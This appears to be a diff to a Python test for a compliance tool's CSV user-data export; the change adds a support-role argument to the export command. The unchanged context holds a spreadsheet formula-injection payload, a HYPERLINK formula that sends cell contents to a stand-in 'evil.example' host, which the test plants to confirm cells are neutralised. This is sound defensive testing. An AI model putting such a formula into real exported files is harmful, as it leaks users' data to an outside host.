@@ -17,7 +17,7 @@ from sqlalchemy import text
 from compliance.audit.chain import record_event
 from compliance.csv_files import frame_to_csv, neutralise, rows_to_csv
 from compliance.reports.review_queue import audit_log_export
-from tests.conftest import Deployment
+from tests.conftest import BY_SUPPORT, Deployment
 
 HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click to verify")'
 PLUS = "+1 555 0100"
@@ -94,8 +94,9 @@ def test_export_user_data_as_csv_neutralises_cells(demo: Deployment, tmp_path: P
     _plant_formulas(demo, user_id)
     out = tmp_path / "out"
     result = demo.run(
-        "export-user-data", "--subject-id", str(user_id), "--format", "csv", "--output", str(out)
-    )
+        "export-user-data", *BY_SUPPORT, "--subject-id", str(user_id), "--format", "csv",
+        "--output", str(out),
+    )  # fmt: skip
     assert result.exit_code == 0, result.output
     (path,) = out.glob("*.zip")
     with zipfile.ZipFile(path) as archive:
